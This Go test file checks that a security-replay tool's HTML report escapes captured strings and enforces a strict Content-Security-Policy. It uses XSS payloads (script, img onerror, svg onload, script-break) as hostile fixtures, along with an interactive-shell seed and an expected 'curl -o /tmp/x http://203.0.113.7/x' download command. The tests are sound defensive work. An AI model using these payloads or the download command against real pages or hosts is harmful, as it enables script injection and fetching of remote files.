package report

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/retrace-dev/retrace/internal/testutil"
)

const (
	payloadScript = `<script>document.title='pwned'</script>`
	payloadImg    = `<img src=x onerror="document.title='pwned'">`
	payloadBreak  = `</script><script>document.title='pwned'</script><!--`
	payloadSVG    = `<svg onload="document.title='pwned'"></svg>`
)

// hostileReport carries script and markup payloads in every string that can
// come from a capture or a rule file.
func hostileReport() *Report {
	all := payloadScript + " " + payloadImg + " " + payloadBreak + " " + payloadSVG
	r := sampleReport()
	r.Title = "case " + payloadImg
	r.Captures[0].File = payloadScript + ".scap"
	r.Captures[0].Hostname = payloadImg
	// A second capture makes the header summarise them and list each in a
	// table, so both paths see hostile names.
	r.Captures = append(r.Captures, CaptureInfo{File: payloadBreak, Hostname: payloadSVG, Events: 7})
	r.RuleFiles = []string{payloadSVG}
	r.View = payloadScript
	r.Tree = []ProcessNode{{
		Process:   Process{Pid: 1, Name: payloadImg, Cmdline: all, User: payloadScript},
		Container: Container{ID: "abc", Name: payloadSVG},
		Activity:  []Activity{{Time: time.Unix(1, 0), Kind: payloadScript, Object: all, EventNum: 9, Frame: 1}},
		Host:      payloadSVG, Capture: payloadBreak, EventNum: 9, Frame: 1,
		Children: []ProcessNode{{Process: Process{Pid: 2, Name: payloadBreak, Cmdline: all}, Host: payloadImg, Capture: payloadScript}},
	}}
	r.Detections[0].Children = []Process{{Pid: 3, Name: payloadImg, Cmdline: all}}
	for i := range r.Detections {
		d := &r.Detections[i]
		d.Rule += " " + payloadScript
		d.Output = "cmd=" + all
		d.Tags = append(d.Tags, payloadImg)
		d.Hostname = payloadBreak
		d.Capture = payloadSVG
		d.EventType = payloadImg
		d.Source = payloadScript
		d.Container = Container{ID: "c0ffee" + fmt.Sprint(i), Name: payloadImg, Image: payloadScript}
		d.Process.Cmdline = all
		d.Process.Name = payloadImg
		d.Process.User = payloadScript
		d.Process.Exe = payloadSVG
		d.Files = []string{"/tmp/" + payloadImg, "/tmp/" + payloadBreak}
		d.Network = []string{payloadSVG}
		for j := range d.Ancestry {
			d.Ancestry[j].Cmdline = all
			d.Ancestry[j].Name = payloadScript
		}
	}
	return r
}

func TestHTMLStatic(t *testing.T) {
	var b bytes.Buffer
	if err := WriteHTML(&b, hostileReport(), Options{}); err != nil {
		t.Fatal(err)
	}
	page := b.String()

	t.Run("csp pins the inline script and style", func(t *testing.T) {
		csp := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]+)">`).FindStringSubmatch(page)
		if csp == nil {
			t.Fatal("no Content-Security-Policy meta tag")
		}
		policy := html.UnescapeString(csp[1])
		if !strings.HasPrefix(policy, "default-src 'none';") || strings.Contains(policy, "unsafe") {
			t.Errorf("policy is not strict: %s", policy)
		}
		scripts := regexp.MustCompile(`(?s)<script>(.*?)</script>`).FindAllStringSubmatch(page, -1)
		styles := regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindAllStringSubmatch(page, -1)
		if len(scripts) != 1 || len(styles) != 1 {
			t.Fatalf("got %d inline scripts and %d styles, want 1 and 1", len(scripts), len(styles))
		}
		for _, body := range []string{scripts[0][1], styles[0][1]} {
			sum := sha256.Sum256([]byte(body))
			if h := "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"; !strings.Contains(policy, h) {
				t.Errorf("policy %q lacks the hash %s of an inline block", policy, h)
			}
		}
	})

	t.Run("nothing loads from elsewhere", func(t *testing.T) {
		if m := regexp.MustCompile(`(?i)<[^>]*\s(src|href|action|srcset|poster|data)\s*=`).FindString(page); m != "" {
			t.Errorf("page loads a resource: %s", m)
		}
		for _, bad := range []string{"url(", "@import", "<link", "<iframe", "<object", "<embed"} {
			if strings.Contains(htmlStyle+htmlScript+htmlTemplateText, bad) {
				t.Errorf("report assets contain %q", bad)
			}
		}
	})

	t.Run("no inline event handlers", func(t *testing.T) {
		if m := regexp.MustCompile(`(?i)<[^>]*\son[a-z]+\s*=`).FindString(page); m != "" {
			t.Errorf("inline event handler: %s", m)
		}
	})

	t.Run("data block holds the strings escaped", func(t *testing.T) {
		m := regexp.MustCompile(`(?s)<script type="application/json" id="retrace-data">(.*?)</script>`).FindStringSubmatch(page)
		if m == nil {
			t.Fatal("no data block")
		}
		if strings.ContainsAny(m[1], "<>") {
			t.Error("data block holds a raw < or >")
		}
		var data htmlData
		if err := json.Unmarshal([]byte(m[1]), &data); err != nil {
			t.Fatal(err)
		}
		if got := data.Detections[0].Proc.Name; got != payloadImg {
			t.Errorf("process name round-trips as %q, want %q", got, payloadImg)
		}
	})
}

func TestHTMLCaptureSummary(t *testing.T) {
	t0 := time.Date(2026, 11, 22, 20, 51, 37, 0, time.UTC)
	two := []CaptureInfo{
		{File: "a.scap.zst", Hostname: "vm", Start: t0, End: t0.Add(2 * time.Second), Events: 1500, Drops: 2},
		{File: "b.scap.zst", Hostname: "vm", Start: t0.Add(200 * time.Second), End: t0.Add(228400 * time.Millisecond), Events: 2500},
		{File: "c.scap.zst", Hostname: "db-1", Events: 10},
	}
	tests := []struct {
		name     string
		captures []CaptureInfo
		want     *htmlCaptureSum
		inPage   []string
		notPage  []string
	}{
		{
			name:     "one capture is listed inline",
			captures: two[:1],
			inPage:   []string{"<dt>Capture</dt><dd>a.scap.zst on <b>vm</b></dd>", "(2 dropped)"},
			notPage:  []string{"<dt>Captures</dt>", `class="panel captures"`},
		},
		{
			name:     "several are summarised, with a table of each",
			captures: two,
			want:     &htmlCaptureSum{Count: 3, Hosts: []string{"vm", "db-1"}, Span: "2026-11-22 20:51:37 – 20:55:25 (3m48s)", Events: "4,010", Drops: "2"},
			inPage: []string{"<dt>Captures</dt><dd><b>3</b> on <b>vm</b>, <b>db-1</b></dd>", "<dt>Events</dt><dd>4,010</dd>", "<dt>Dropped</dt><dd>2</dd>",
				`<details class="panel captures" id="captures">`, `<td class="file">b.scap.zst</td><td>vm</td><td>2026-11-22 20:54:57</td><td>20:55:25</td><td class="n">28.4s</td><td class="n">2,500</td><td class="n">0</td>`},
			notPage: []string{"<dt>Capture</dt>"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sampleReport()
			r.Captures = tt.captures
			page := buildHTMLPage(r, Options{})
			if diff := cmp.Diff(tt.want, page.CaptureSum); diff != "" {
				t.Errorf("capture summary (-want +got):\n%s", diff)
			}
			var b bytes.Buffer
			if err := WriteHTML(&b, r, Options{}); err != nil {
				t.Fatal(err)
			}
			for _, s := range tt.inPage {
				if !strings.Contains(b.String(), s) {
					t.Errorf("page lacks %s", s)
				}
			}
			for _, s := range tt.notPage {
				if strings.Contains(b.String(), s) {
					t.Errorf("page has %s", s)
				}
			}
		})
	}
}

// TestHTMLTreeSources checks that the process tree's nodes, activities
// and exits say where their events are, and name host and capture when the
// tree has several.
func TestHTMLTreeSources(t *testing.T) {
	tests := []struct {
		name    string
		report  *Report
		inPage  []string
		notPage []string
	}{
		{
			name:   "one host and capture: events only",
			report: treeReport(),
			inPage: []string{
				`<span class="where">frame 1 · evt.num 812</span>`,                                      // bash's exec
				`<span class="obj">/etc/shadow</span> <span class="where">frame 1 · evt.num 815</span>`, // an activity
				`exit 09:14:09.000000 · frame 3 · evt.num 4100</span>`,
			},
			notPage: []string{`class="hostname"`, "hosts/web-01.scap.zst"},
		},
		{
			name:   "two hosts: host and capture on each process",
			report: treeHostsReport(),
			inPage: []string{
				`<span class="hostname">host <b>web-01</b></span> <span class="where">hosts/web-01.scap.zst · frame 1 · evt.num 812</span>`,
				`<span class="hostname">host <b>db-01</b></span> <span class="where">db-01.scap</span>`, // systemd: no event of its own
				`<span class="hostname">host <b>db-01</b></span> <span class="where">db-01.scap · evt.num 77</span>`,
				`<span class="obj">/etc/cron.d/x</span> <span class="where">evt.num 80</span>`, // not framed
				`exit 09:14:07.000000 · evt.num 91</span>`,
			},
		},
		{
			name:   "rotated set: each process its file, an activity or exit in another file its own",
			report: treeSetReport(),
			inPage: []string{
				`<span class="where">rec/web-000001.scap.zst · frame 1 · evt.num 812</span>`, // bash's exec
				`<span class="obj">/etc/shadow</span> <span class="where">frame 1 · evt.num 815</span>`,
				`<span class="where">web-000002.scap.zst · frame 0 · evt.num 20480</span>`, // its connect
				`exit 09:15:09.000000 · web-000002.scap.zst · frame 3 · evt.num 41000</span>`,
				`<span class="where">rec/web-000002.scap.zst · frame 0 · evt.num 21000</span>`, // sh
			},
			notPage: []string{`class="hostname"`},
		},
		{
			name: "rotated set, every process in its second file: the file on each",
			report: func() *Report {
				r := treeSetReport()
				r.Tree = r.Tree[1:] // cron
				return r
			}(),
			inPage: []string{`<span class="where">rec/web-000002.scap.zst · frame 2 · evt.num 30000</span>`},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := WriteHTML(&b, tc.report, Options{}); err != nil {
				t.Fatal(err)
			}
			tree := b.String()
			if i := strings.Index(tree, `id="ptree"`); i >= 0 {
				tree = tree[i:]
			} else {
				t.Fatal("page has no process tree")
			}
			for _, s := range tc.inPage {
				if !strings.Contains(tree, s) {
					t.Errorf("tree lacks %s", s)
				}
			}
			for _, s := range tc.notPage {
				if strings.Contains(tree, s) {
					t.Errorf("tree has %s", s)
				}
			}
		})
	}
}

func TestHTMLContainerLabels(t *testing.T) {
	attackA := Container{ID: "f0090388ab12", Name: "retrace-attack", Image: "localhost/retrace-attack:1"}
	attackB := Container{ID: "5669f70c0d9e", Name: "retrace-attack", Image: "localhost/retrace-attack:1"}
	tests := []struct {
		name       string
		containers []Container
		want       []string // labels in first-seen order
	}{
		{"distinct names stay bare", []Container{{ID: "host"}, {ID: "3ad7b2c1e9f0", Name: "web"}, {ID: "91c0d2aa7b3e", Name: "db"}}, []string{"host", "web", "db"}},
		{"shared names get the short id", []Container{attackA, {ID: "host"}, attackB, {ID: "abc"}}, []string{"retrace-attack (f0090388ab12)", "host", "retrace-attack (5669f70c0d9e)", "abc"}},
		{"long ids are cut to 12", []Container{{ID: "0123456789abcdef", Name: "x"}, {ID: "fedcba9876543210", Name: "x"}}, []string{"x (0123456789ab)", "x (fedcba987654)"}},
		{"a name equal to another's id", []Container{{ID: "web"}, {ID: "111111111111", Name: "web"}}, []string{"web", "web (111111111111)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sampleReport()
			d0 := r.Detections[0]
			r.Detections = nil
			for _, c := range tt.containers {
				d := d0
				d.Container = c
				r.Detections = append(r.Detections, d)
			}
			page := buildHTMLPage(r, Options{})
			var got, rows []string
			for _, c := range page.Data.Containers {
				got = append(got, c.Label)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("labels (-want +got):\n%s", diff)
			}
			for _, c := range page.ByContainer {
				rows = append(rows, c.Name)
			}
			if diff := cmp.Diff(tt.want, rows, cmpopts.SortSlices(func(a, b string) bool { return a < b })); diff != "" {
				t.Errorf("by-container rows (-want +got):\n%s", diff)
			}
		})
	}
}

// chromium runs headless Chromium on an HTML file with extra arguments and
// returns its standard output.
func chromium(t *testing.T, file string, args ...string) []byte {
	t.Helper()
	bin := testutil.NeedTool(t, "chromium")
	ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
	defer cancel()
	base := []string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
		"--disable-component-update", "--no-first-run", "--hide-scrollbars", "--user-data-dir=" + t.TempDir()}
	cmd := exec.CommandContext(ctx, bin, append(append(base, args...), file)...)
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("chromium %v: %v\n%s", args, err, stderr.Bytes())
	}
	return stdout.Bytes()
}

func writeHTMLFile(t *testing.T, r *Report, edit func(string) string) string {
	t.Helper()
	var b bytes.Buffer
	if err := WriteHTML(&b, r, Options{}); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	if edit != nil {
		page = edit(page)
	}
	path := filepath.Join(t.TempDir(), "report.html")
	if err := os.WriteFile(path, []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestHTMLChromiumRendering loads reports in one headless Chromium and
// checks the DOM the page's script builds. Seeing the cards at all proves
// that the Content-Security-Policy hash admits the script.
func TestHTMLChromiumRendering(t *testing.T) {
	t.Parallel()
	p := openCDPPage(t, "about:blank")
	// Count what the page shows, not its data block.
	dataBlock := regexp.MustCompile(`(?s)<script type="application/json".*?</script>`)
	dom := func() string {
		return dataBlock.ReplaceAllString(p.evalString(`document.documentElement.outerHTML`), "")
	}

	t.Run("lists detections a page at a time", func(t *testing.T) {
		// The sample's detections first, then enough others to need paging.
		r := sampleReport()
		r.Detections = append(r.Detections, bigReport(996).Detections...)
		p.load("file://" + writeHTMLFile(t, r, nil))
		dom := dom()
		if got := strings.Count(dom, `<article class="det `); got != 100 {
			t.Errorf("first page shows %d detection cards, want 100", got)
		}
		for _, d := range r.Detections[:4] {
			for _, want := range []string{d.Rule, d.Process.Name, d.Output[:20]} {
				if !strings.Contains(dom, want) {
					t.Errorf("rendered page lacks %q", want)
				}
			}
		}
		for _, want := range []string{"Show 100 more of 900 remaining", ">1000 detections<", `id="total">1000<`, "<title>retrace replay: incident-42</title>"} {
			if !strings.Contains(dom, want) {
				t.Errorf("rendered page lacks %q", want)
			}
		}
		if got := strings.Count(dom, `class="dot `); got < 10 {
			t.Errorf("timeline shows %d dots", got)
		}
		p.eval(`document.querySelector("button.more").click()`)
		p.waitFor(`document.querySelectorAll("article.det").length === 200`)
	})

	r := sampleReport()
	page := "file://" + writeHTMLFile(t, r, nil)
	first := r.Detections[0].Time
	ms := func(tm time.Time) string { return fmt.Sprintf("%.3f", float64(tm.UnixNano())/1e6) }
	filters := []struct {
		name, fragment string
		want           int
	}{
		{"no filter", "", 4},
		{"search in ancestry, case-insensitive", "#q=CONTAINERD-SHIM-RUNC", 1},
		{"priority", "#priority=Critical,Error", 2},
		{"container", "#container=web-frontend", 2},
		{"host", "#container=host", 2},
		{"rule", "#rule=" + url.PathEscape("Write below binary dir"), 1},
		{"time window", "#from=" + ms(first.Add(-time.Millisecond)) + "&to=" + ms(first.Add(2*time.Second)), 2},
		{"combined", "#q=bash&container=host&priority=Critical", 1},
		{"nothing", "#q=no-such-thing", 0},
	}
	for _, tc := range filters {
		t.Run("filter "+tc.name, func(t *testing.T) {
			p.load(page + tc.fragment)
			if got := strings.Count(dom(), `<article class="det `); got != tc.want {
				t.Errorf("%s shows %d detections, want %d", tc.fragment, got, tc.want)
			}
		})
	}

	t.Run("views", func(t *testing.T) {
		r := shellsReport()
		r.View = "tree"
		r.Tree = treeReport().Tree
		p.load("file://" + writeHTMLFile(t, r, nil) + "#q=shadow")
		dom := dom()
		for _, tc := range []struct {
			text string
			want int
		}{
			{`<article class="det `, 1},
			{">Commands run<", 1},
			{"curl -o /tmp/x http://203.0.113.7/x", 1},
			{`<li class="node"`, 3},
			{`<li class="node" hidden=""`, 1}, // sh[8120] does not match the search
			{`<span class="kind">open-write<`, 1},
		} {
			if got := strings.Count(dom, tc.text); got != tc.want {
				t.Errorf("%q occurs %d times, want %d", tc.text, got, tc.want)
			}
		}
	})
}

func TestHTMLChromiumHostileStringsStayText(t *testing.T) {
	t.Parallel()
	r := hostileReport()
	stripCSP := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)
	tests := []struct {
		name string
		edit func(string) string
	}{
		{"with csp", nil},
		// Without the policy, escaping alone must hold.
		{"without csp", func(s string) string { return stripCSP.ReplaceAllString(s, "") }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			dom := string(chromium(t, writeHTMLFile(t, r, tc.edit), "--dump-dom"))
			title := regexp.MustCompile(`(?s)<title>(.*?)</title>`).FindStringSubmatch(dom)
			if title == nil || strings.Contains(title[1], "pwned") && !strings.Contains(title[1], "&lt;img") {
				t.Fatalf("title was changed by a payload: %v", title)
			}
			if want := "case &lt;img src=x onerror=\"document.title='pwned'\"&gt;"; title[1] != want {
				t.Errorf("title = %q, want %q", title[1], want)
			}
			if n := strings.Count(dom, "<img"); n != 0 {
				t.Errorf("DOM holds %d <img> elements", n)
			}
			if n := strings.Count(dom, "<script"); n != 2 {
				t.Errorf("DOM holds %d <script> elements, want the report's 2", n)
			}
			if n := strings.Count(dom, "<svg onload"); n != 0 {
				t.Errorf("DOM holds %d injected <svg> elements", n)
			}
			if got := strings.Count(dom, `<article class="det `); got != len(r.Detections) {
				t.Errorf("rendered %d detection cards, want %d", got, len(r.Detections))
			}
			for _, text := range []string{
				"&lt;script&gt;document.title='pwned'&lt;/script&gt;",
				"&lt;img src=x onerror=\"document.title='pwned'\"&gt;",
				"&lt;/script&gt;&lt;script&gt;",
			} {
				if !strings.Contains(dom, text) {
					t.Errorf("payload not shown as text: %s", text)
				}
			}
		})
	}
}

// TestHTMLScreenshot checks that Chromium renders the synthetic demo report
// to a picture. It writes only to a temporary directory: the README's
// picture, docs/report.png, shows the real `make demo` report and comes from
// scripts/screenshot.sh.
func TestHTMLScreenshot(t *testing.T) {
	t.Parallel()
	out := filepath.Join(t.TempDir(), "report.png")
	chromium(t, writeHTMLFile(t, demoReport(), nil), "--screenshot="+out, "--window-size=1400,1000")
	png, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(png, []byte("\x89PNG\r\n\x1a\n")) || len(png) < 10000 {
		t.Errorf("screenshot is not a plausible PNG (%d bytes)", len(png))
	}
}

// FuzzWriteHTML checks that no captured string, whatever its bytes, adds an
// element to the page or a raw '<' to its data block.
func FuzzWriteHTML(f *testing.F) {
	for _, s := range []string{"bash -i", payloadScript, payloadImg, payloadBreak, payloadSVG, "\xff<!--<script", "]]></script>"} {
		f.Add(s, s)
	}
	dataBlock := regexp.MustCompile(`(?s)<script type="application/json" id="retrace-data">(.*?)</script>`)
	f.Fuzz(func(t *testing.T, cmdline, name string) {
		r := sampleReport()
		r.Title = name
		d := &r.Detections[0]
		d.Rule, d.Output, d.Process.Cmdline, d.Files = name, cmdline, cmdline, []string{name}
		d.Container.Name, d.Container.Image = name, cmdline
		d.Drill = &Drill{Event: ContextEvent{Line: cmdline}, Before: []ContextEvent{{Line: name}},
			Next: []Step{{Activity: Activity{Kind: name, Object: cmdline}, Name: name}}}
		r.Views = []ActivityView{{Name: name, Findings: []Detection{{Rule: name, Output: cmdline, Hostname: name, Capture: cmdline}}}}
		r.Notes = []string{cmdline}
		r.Tree = []ProcessNode{{Process: Process{Name: name}, Host: cmdline, Capture: name, Pins: []int{0}}, {Process: Process{Name: cmdline}, Host: name, Capture: cmdline}}
		var b bytes.Buffer
		if err := WriteHTML(&b, r, Options{}); err != nil {
			t.Fatal(err)
		}
		page := b.String()
		if n := strings.Count(page, "<script"); n != 2 {
			t.Fatalf("page has %d <script tags, want 2", n)
		}
		for _, tag := range []string{"<img", "<svg on", "<iframe", "<style", "<meta"} {
			if want := map[string]int{"<style": 1, "<meta": 5}[tag]; strings.Count(page, tag) != want {
				t.Fatalf("page has %d %q, want %d", strings.Count(page, tag), tag, want)
			}
		}
		m := dataBlock.FindStringSubmatch(page)
		if m == nil || strings.ContainsAny(m[1], "<>") {
			t.Fatalf("data block missing or holds a raw < or >")
		}
	})
}
